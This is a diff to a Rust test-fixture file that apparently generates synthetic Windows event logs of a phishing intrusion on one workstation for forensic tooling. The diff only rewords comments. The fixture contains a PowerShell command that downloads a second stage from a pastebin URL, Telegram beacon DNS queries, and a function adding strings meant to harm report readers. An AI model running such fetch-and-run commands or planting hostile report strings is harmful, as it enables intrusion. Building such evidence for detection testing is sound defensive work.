@@ -1,9 +1,9 @@
 //! FIN-WS07, the one machine that was broken into.
 //!
-//! On the evening of 3 March a script opened from a mail asks for pastebin.com; that part is in a
+//! On the evening of 3 March a script opened from a mail queries pastebin.com; that part is in a
 //! log that was archived since. The next morning PowerShell fetches a second stage, which settles
 //! below AppData and reports to a Telegram bot for hours. Most of it lies after the first chunk,
-//! which is all that the log's header admits to.
+//! which is the only one that the log's header counts.
 
 use crate::error::Error;
 use crate::event::Event;
@@ -28,7 +28,8 @@ pub(super) fn files() -> Result<Vec<SampleFile>, Error> {
     Ok(vec![archived_log()?, sysmon_log()?, security_log()?, system_log()?, application_log()?])
 }
 
-/// The evening before. An archived log is laid out as the live one it was, but closed properly.
+/// The log of the evening before. An archived log has the layout of the live log that it was, but
+/// was closed properly.
 fn archived_log() -> Result<SampleFile, Error> {
     let writer = LogWriter::new(Style::Live).dirty(false).stale_header(false).first_number(88_101);
     let mut log = Log::new("evidence", HOST, ARCHIVE, writer, Style::Live);
@@ -78,7 +79,7 @@ fn second_stage(journal: &mut Journal) {
             .of_process(9120),
     );
     journal.add(8, Event::dns_query("t.me", IMPLANT).answered("0", "::ffff:203.0.113.99;").of_process(9120));
-    // The same name twice more: once it fails, once a second process asks.
+    // The same name is queried twice more: once the query fails, once a second process makes it.
     journal.add(4, Event::dns_query("t.me", IMPLANT).answered("1460", "-").of_process(9120));
     journal.add(9, Event::dns_query("Pastebin.com", POWERSHELL).answered("0", PASTEBIN).of_process(9188));
 }
@@ -102,7 +103,7 @@ fn beacon(journal: &mut Journal) {
     }
 }
 
-/// Names chosen to harm whoever reads the report.
+/// Adds names that are meant to harm whoever reads the report.
 fn hostile_strings(journal: &mut Journal) {
     journal.add(
         20,
@@ -123,7 +124,7 @@ fn security_log() -> Result<SampleFile, Error> {
     let mut log = Log::live("evidence", HOST, "Security.evtx");
     let mut journal = Journal::new(HOST, USER, morning(), 410_220);
     journal.audit(30);
-    // Security 4688 has the command line too, but is no DNS query.
+    // Security 4688 has the command line, too, but is no DNS query.
     journal.add(
         9,
         Event::audited_process(POWERSHELL, "powershell.exe -c iwr https://pastebin.com/raw/Xy12Ab34"),
